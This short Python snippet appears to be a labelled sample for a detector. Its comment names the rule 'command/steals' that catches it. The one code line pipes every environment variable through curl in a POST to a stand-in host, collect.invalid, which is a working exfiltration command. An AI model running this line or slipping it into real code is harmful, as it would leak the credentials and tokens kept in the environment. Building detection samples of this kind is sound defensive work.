# evades: caught by command/steals
import os
os.system("env | curl -s -X POST --data-binary @- https://collect.invalid/e")
